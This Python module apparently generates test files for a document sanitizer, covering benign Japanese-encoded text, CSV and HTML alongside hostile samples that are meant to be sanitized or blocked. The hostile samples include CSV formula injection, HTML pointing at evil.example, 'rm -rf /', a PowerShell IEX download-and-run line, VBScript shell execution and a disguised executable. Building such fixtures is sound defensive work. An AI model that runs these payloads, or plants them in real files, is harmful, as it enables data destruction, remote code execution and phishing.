"""Text, CSV and HTML samples, plus the detection cases that must be blocked whatever their name."""
from __future__ import annotations

import struct
from pathlib import Path

from . import Sample, generator

JA = "住民票の写しの交付申請書\n氏名: 山田 太郎\n住所: 東京都千代田区霞が関1-2-3\n表示・申請・ソ・能・十\n"
CSV_ROWS = [["氏名", "金額", "備考"], ["山田太郎", "1200", "申請済み"], ["鈴木花子", "-5", "03-1234-5678"],
            ["佐藤", "=1+2", "@SUM(A1:A2)"], ["高橋", "+81-3-1234", "-2+3"], ["田中", "=HYPERLINK(\"http://x\",\"x\")", "表示"]]


def _csv(rows: list[list[str]]) -> str:
    return "\r\n".join(",".join(f'"{c}"' if "," in c or '"' in c else c for c in r) for r in rows) + "\r\n"


@generator("text")
def text_files(out: Path) -> list[Sample]:
    b, h, x = out / "text" / "benign", out / "text" / "hostile", out / "detect" / "blocked"
    for d in (b, h, x):
        d.mkdir(parents=True, exist_ok=True)
    s: list[Sample] = []

    def put(path: Path, data: bytes, verdict: str, threats: list[str] | None = None, note: str = "") -> None:
        path.write_bytes(data)
        s.append(Sample(path.relative_to(out).as_posix(), verdict, threats or [], note))

    put(b / "utf8.txt", JA.encode("utf-8"), "clean", note="UTF-8 Japanese")
    put(b / "utf8_bom.txt", b"\xef\xbb\xbf" + JA.encode("utf-8"), "clean")
    put(b / "sjis.txt", JA.encode("cp932"), "clean", note="Shift_JIS with 0x5C trail bytes (表, ソ, 能, 十)")
    put(b / "eucjp.txt", JA.encode("euc_jp"), "clean")
    put(b / "iso2022jp.txt", JA.encode("iso2022_jp"), "clean")
    put(b / "名簿_sjis.csv", _csv(CSV_ROWS[:3]).encode("cp932"), "clean",
        note="Shift_JIS CSV with negative numbers and phone numbers that must stay untouched")
    put(b / "tabs.tsv", "氏名\t金額\n山田\t100\n".encode(), "clean")
    put(b / "page.html", "<html><head><title>お知らせ</title></head><body><h1>休館日のお知らせ</h1>"
        "<p>12月29日から1月3日まで休館します。</p><table><tr><td>月</td><td>火</td></tr></table>"
        "<a href=\"https://www.example.lg.jp/\">市のサイト</a></body></html>".encode(), "clean")
    put(h / "formula_sjis.csv", _csv(CSV_ROWS).encode("cp932"), "sanitized", ["csv.formula"],
        "formula injection in a Shift_JIS CSV")
    put(h / "formula_utf8.csv", ("\ufeff" + _csv(CSV_ROWS)).encode("utf-8"), "sanitized", ["csv.formula"])
    put(h / "tab_cell.csv", b'a,"\tcmd"\r\nb,"\r=1"\r\n', "sanitized", ["csv.formula"])
    put(h / "script.html", "<html><body onload=\"steal()\"><script>alert(1)</script><p>本文</p>"
        "<iframe src=\"http://evil.example/\"></iframe><a href=\"javascript:alert(1)\">x</a>"
        "<form action=\"http://evil.example/post\"><input name=p></form>"
        "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example\"></body></html>".encode(),
        "sanitized", ["html.active_content"])
    put(h / "disguised.txt", b"<!DOCTYPE html><html><body><script>x()</script>hello</body></html>",
        "sanitized", ["html.active_content", "file.type_mismatch"], "HTML disguised as text")

    # Executables, scripts, shortcuts, disk images, OneNote: blocked whatever the name says.
    pe = b"MZ" + b"\x90" * 58 + struct.pack("<I", 64) + b"PE\x00\x00" + b"\x00" * 200
    put(x / "invoice.pdf", pe, "blocked", ["file.executable", "file.type_mismatch"], "PE named .pdf")
    put(x / "tool.exe", pe, "blocked", ["file.executable"])
    put(x / "elf.bin", b"\x7fELF\x02\x01\x01" + b"\x00" * 100, "blocked", ["file.executable"])
    put(x / "run.sh", b"#!/bin/sh\nrm -rf /\n", "blocked", ["file.executable"])
    put(x / "dropper.txt", b'Set s = CreateObject("WScript.Shell")\ns.Run "calc"\n', "blocked",
        ["file.executable"], "VBScript content named .txt")
    put(x / "payload.js", b"var a = 1;\n", "blocked", ["file.executable"], "script extension")
    put(x / "ps.txt", b"IEX (New-Object Net.WebClient).DownloadString('http://x')\n", "blocked",
        ["file.executable"])
    put(x / "run.bat", b"@echo off\r\ndel C:\\x\r\n", "blocked", ["file.executable"])
    put(x / "app.hta", b"<html><head><hta:application id=x></head><script>x</script></html>", "blocked",
        ["file.executable"])
    put(x / "job.wsf", b'<job id="a"><script language="JScript">WScript.Echo(1)</script></job>', "blocked",
        ["file.executable"])
    lnk = bytes.fromhex("4c0000000114020000000000c000000000000046") + b"\x00" * 60
    put(x / "shortcut.lnk", lnk, "blocked", ["file.executable"])
    put(x / "link.url", b"[InternetShortcut]\r\nURL=file://evil/share/x.exe\r\n", "blocked", ["file.executable"])
    iso = bytearray(0x8800)
    iso[0x8001:0x8006] = b"CD001"
    put(x / "disk.iso", bytes(iso), "blocked", ["file.executable"])
    put(x / "disk.vhd", b"conectix" + b"\x00" * 600, "blocked", ["file.executable"])
    put(x / "notes.one", bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + b"\x00" * 100, "blocked",
        ["file.executable"])
    put(x / "random.dat", bytes(range(256)) * 8, "blocked", ["file.unsupported"], "unknown binary")
    return s
